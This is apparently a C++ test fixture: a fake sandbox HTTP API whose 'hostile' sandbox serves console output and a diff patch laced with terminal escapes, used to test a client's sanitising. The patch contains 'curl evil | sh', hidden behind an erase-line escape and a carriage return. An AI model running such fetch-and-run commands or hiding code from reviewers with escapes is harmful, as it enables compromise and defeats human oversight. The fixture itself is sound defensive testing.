#include "src/client/testing/fake_sandbox_api.h"

#include <signal.h>

#include <algorithm>

#include "absl/strings/match.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "src/client/testing/fake_api_state.h"

namespace abox::client::testing {

// The patch of the hostile sandbox's install.sh: its added line erases itself on a terminal and
// the carriage return lets "# a comment" take its place; then a C1 CSI and DEL.
const char kHostilePatch[] =
    "--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,2 @@\n echo hi\n"
    "+curl evil | sh \x1b[2K\r# a comment \xc2\x9b"
    "31m \x7f\n";

using daemon::http::Request;
using daemon::http::Responder;
using daemon::http::Router;
using daemon::http::SseEvent;
using daemon::http::Stream;
using nlohmann::json;

std::string ApiTime(absl::Time t) {
  return absl::FormatTime("%Y-%m-%dT%H:%M:%E3SZ", t, absl::UTCTimeZone());
}

void FakeSandboxApi::State::Emit(const std::string& type, const std::string& sandbox_id,
                                 json payload) {
  json event = {{"seq", static_cast<int64_t>(events.size()) + 1},
                {"time", ApiTime(absl::Now())},
                {"sandbox_id", sandbox_id},
                {"type", type},
                {"payload", std::move(payload)}};
  events.push_back(event);
  for (auto& [_, listener] : listeners) {
    if (listener.first.empty() || listener.first == sandbox_id) {
      listener.second.WriteEvent(SseEvent{std::to_string(events.size()), type, event.dump()});
    }
  }
}

std::shared_ptr<Sandbox> FakeSandboxApi::State::Find(const std::string& key) {
  std::shared_ptr<Sandbox> found;
  for (const auto& s : sandboxes) {
    const std::string& id = s->record["id"].get_ref<const std::string&>();
    if (id == key || s->record["name"] == key) {
      return s;
    }
    if (key.size() >= 3 && absl::StartsWith(id, key)) {
      if (found) {
        return nullptr;
      }
      found = s;
    }
  }
  return found;
}

json FakeSandboxApi::State::SandboxJson(const Sandbox& s) {
  json j = s.record;
  int running = 0;
  for (const auto& e : s.execs) {
    running += e->state == "running" ? 1 : 0;
  }
  j["running_execs"] = running;
  return j;
}

void StopSandbox(FakeSandboxApi::State& st, Sandbox& s) {
  for (const auto& e : s.execs) {
    if (e->state == "running") {
      e->state = "interrupted";
      e->error = "the sandbox was stopped";
      FakeSandboxApi::State::Kill(*e, SIGKILL, true);
    }
  }
  s.record["state"] = "stopped";
  st.Emit("stopped", s.record["id"], json::object());
}

FakeSandboxApi::FakeSandboxApi() : state_(std::make_shared<State>()) {}

FakeSandboxApi::~FakeSandboxApi() {
  std::vector<std::shared_ptr<Exec>> execs;
  {
    std::lock_guard<std::recursive_mutex> lock(state_->mu);
    for (const auto& e : state_->all_execs) {
      State::Kill(*e, SIGKILL, true);
      e->stdin_fd.reset();
      execs.push_back(e);
    }
  }
  for (const auto& e : execs) {
    if (e->pump.joinable()) {
      e->pump.join();
    }
  }
}

int FakeSandboxApi::RunningSandboxes() {
  std::lock_guard<std::recursive_mutex> lock(state_->mu);
  int n = 0;
  for (const auto& s : state_->sandboxes) {
    n += s->record["state"] == "ready" || s->record["state"] == "creating" ? 1 : 0;
  }
  return n;
}

void FakeSandboxApi::AddRoutes(Router& router) {
  std::shared_ptr<State> st = state_;
  (void)router.Add("POST", "/v1/sandboxes", [st](Request& req, Responder& out) {
    json body = json::parse(req.body.empty() ? "{}" : req.body, nullptr, false);
    if (!body.is_object()) {
      return out.Error(absl::InvalidArgumentError("the body is not a JSON object"));
    }
    std::lock_guard<std::recursive_mutex> lock(st->mu);
    std::string name = body.value("name", "");
    if (!name.empty() && st->Find(name)) {
      return out.Error(absl::AlreadyExistsError(
          absl::StrCat("a sandbox named \"", name, "\" exists; pick another name")));
    }
    std::string id = absl::StrFormat("%06x%018d", st->next_id * 0xabcd, st->next_id);
    ++st->next_id;
    json record = {{"id", id},
                   {"name", name.empty() ? absl::StrCat("sb-", id.substr(0, 6)) : name},
                   {"image", body.value("image", "default")},
                   {"cpus", body.value("cpus", 1)},
                   {"memory_mib", body.value("memory_mib", 512)},
                   {"labels", body.value("labels", json::object())},
                   {"state", "ready"},
                   {"accel", "tcg"},
                   {"created_at", ApiTime(absl::Now())},
                   {"ready_at", ApiTime(absl::Now())}};
    if (int64_t ttl = body.value("ttl_seconds", 0); ttl > 0) {
      record["ttl_seconds"] = ttl;
      record["expires_at"] = ApiTime(absl::Now() + absl::Seconds(ttl));
    }
    auto s = std::make_shared<Sandbox>();
    s->record = record;
    st->sandboxes.push_back(s);
    st->Emit("created", id, {{"name", record["name"]}});
    st->Emit("ready", id, json::object());
    bool wait = req.Query("wait").value_or("true") != "false";
    out.Json(wait ? 201 : 202, st->SandboxJson(*s));
  });

  (void)router.Add("GET", "/v1/sandboxes", [st](Request& req, Responder& out) {
    std::vector<std::string> states = req.QueryAll("state");
    std::vector<std::string> labels = req.QueryAll("label");
    std::lock_guard<std::recursive_mutex> lock(st->mu);
    json list = json::array();
    for (auto it = st->sandboxes.rbegin(); it != st->sandboxes.rend(); ++it) {
      const json& r = (*it)->record;
      bool match = states.empty() || std::find(states.begin(), states.end(),
                                               r["state"].get<std::string>()) != states.end();
      for (const std::string& l : labels) {
        size_t eq = l.find('=');
        match = match && eq != std::string::npos &&
                r["labels"].value(l.substr(0, eq), std::string("\x01")) == l.substr(eq + 1);
      }
      if (match) {
        list.push_back(st->SandboxJson(**it));
      }
    }
    out.Json(200, {{"sandboxes", list}});
  });

  (void)router.Add("GET", "/v1/sandboxes/{id}", [st](Request& req, Responder& out) {
    WithSandbox(*st, req, out, [&](Sandbox& s) { out.Json(200, st->SandboxJson(s)); });
  });

  (void)router.Add("POST", "/v1/sandboxes/{id}/stop", [st](Request& req, Responder& out) {
    WithSandbox(*st, req, out, [&](Sandbox& s) {
      StopSandbox(*st, s);
      out.Json(200, st->SandboxJson(s));
    });
  });

  (void)router.Add("DELETE", "/v1/sandboxes/{id}", [st](Request& req, Responder& out) {
    WithSandbox(*st, req, out, [&](Sandbox& s) {
      if (s.record["state"] == "ready" &&
          req.Query("force") != std::optional<std::string>("true")) {
        return out.Error(absl::FailedPreconditionError(
            absl::StrCat("sandbox ", s.record["name"].get<std::string>(),
                         " is running; stop it first or remove it with `abox rm -f`")));
      }
      if (s.record["state"] == "ready") {
        StopSandbox(*st, s);
      }
      std::string id = s.record["id"];
      st->Emit("removed", id, json::object());
      s.record["state"] = "removed";
      std::erase_if(st->sandboxes, [&](const auto& x) { return x.get() == &s; });
      out.Send(204, "", "");
    });
  });

  // A sandbox named "hostile" stands for a guest that writes terminal escapes: into its console
  // and into the workspace files its diff shows.
  (void)router.Add("GET", "/v1/sandboxes/{id}/console", [st](Request& req, Responder& out) {
    WithSandbox(*st, req, out, [&](Sandbox& s) {
      std::string name = s.record["name"].get<std::string>();
      out.Send(200, "text/plain",
               absl::StrCat("[    0.000000] Linux version fake\n",
                            name == "hostile" ? "evil \x1b[2K\rfine \xc2\x9b"
                                                "31m\n"
                                              : "",
                            "abox-guest: ready in ", name, "\n"));
    });
  });

  (void)router.Add("GET", "/v1/sandboxes/{id}/diff", [st](Request& req, Responder& out) {
    WithSandbox(*st, req, out, [&](Sandbox& s) {
      json files = json::array();
      if (s.record["name"] == "hostile") {
        // The shape of the real daemon's FileDiff (src/api/workspace.h), kinds and modes too.
        files.push_back({{"path", "install.sh"},
                         {"status", "modified"},
                         {"old_kind", "file"},
                         {"new_kind", "file"},
                         {"old_mode", 0755},
                         {"new_mode", 0755},
                         {"binary", false},
                         {"additions", 1},
                         {"deletions", 0},
                         {"patch", kHostilePatch}});
        files.push_back({{"path", "notes.txt"},
                         {"status", "added"},
                         {"old_kind", ""},
                         {"new_kind", "file"},
                         {"old_mode", 0},
                         {"new_mode", 0644},
                         {"binary", false},
                         {"additions", 1},
                         {"deletions", 0},
                         {"patch", "--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+a\tb\n"}});
      }
      out.Json(200, {{"files", std::move(files)}, {"ignored", 0}});
    });
  });

  AddExecRoutes(st, router);

  (void)router.Add("GET", "/v1/events", [st](Request& req, Responder& out) {
    std::lock_guard<std::recursive_mutex> lock(st->mu);
    std::string filter;
    if (std::optional<std::string> key = req.Query("sandbox")) {
      std::shared_ptr<Sandbox> s = st->Find(*key);
      if (!s) {
        return out.Error(absl::NotFoundError(absl::StrCat("no sandbox \"", *key, "\"")));
      }
      filter = s->record["id"];
    }
    Stream stream = out.StartSse();
    int64_t since = -1;
    if (std::optional<std::string> text = req.Query("since")) {
      (void)absl::SimpleAtoi(*text, &since);
    }
    for (const json& event : st->events) {
      if (since >= 0 && event["seq"].get<int64_t>() > since &&
          (filter.empty() || event["sandbox_id"] == filter)) {
        stream.WriteEvent(
            SseEvent{std::to_string(event["seq"].get<int64_t>()), event["type"], event.dump()});
      }
    }
    int listener = st->next_id++;
    st->listeners.emplace(listener, std::make_pair(filter, stream));
    stream.OnCancel([st, listener] {
      std::lock_guard<std::recursive_mutex> lock(st->mu);
      st->listeners.erase(listener);
    });
  });
}

}  // namespace abox::client::testing
